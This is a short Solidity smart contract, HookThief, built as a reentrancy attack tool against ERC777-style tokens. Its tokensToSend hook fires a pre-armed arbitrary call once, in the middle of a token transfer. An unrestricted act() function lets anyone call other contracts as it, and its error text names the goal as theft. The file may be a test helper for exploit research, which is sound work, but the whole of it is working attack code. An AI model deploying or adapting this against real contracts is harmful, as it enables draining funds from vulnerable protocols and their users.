// SPDX-License-Identifier: MIT
pragma solidity 0.8.17;

/// Deposits a token that asks its sender, and when it is asked has itself paid out. Anyone may use it.
contract HookThief {
    address private _target;
    bytes private _whenAsked;

    /// Calls anything as this contract.
    function act(address target, bytes calldata data) external {
        (bool succeeded, ) = target.call(data);
        require(succeeded, 'the act failed');
    }

    /// What to call when the token asks. Once.
    function arm(address target, bytes calldata data) external {
        _target = target;
        _whenAsked = data;
    }

    function tokensToSend(
        address,
        address,
        address,
        uint256,
        bytes calldata,
        bytes calldata
    ) external {
        if (_whenAsked.length == 0) return;
        bytes memory data = _whenAsked;
        delete _whenAsked;
        (bool succeeded, ) = _target.call(data);
        require(succeeded, 'the theft failed');
    }
}
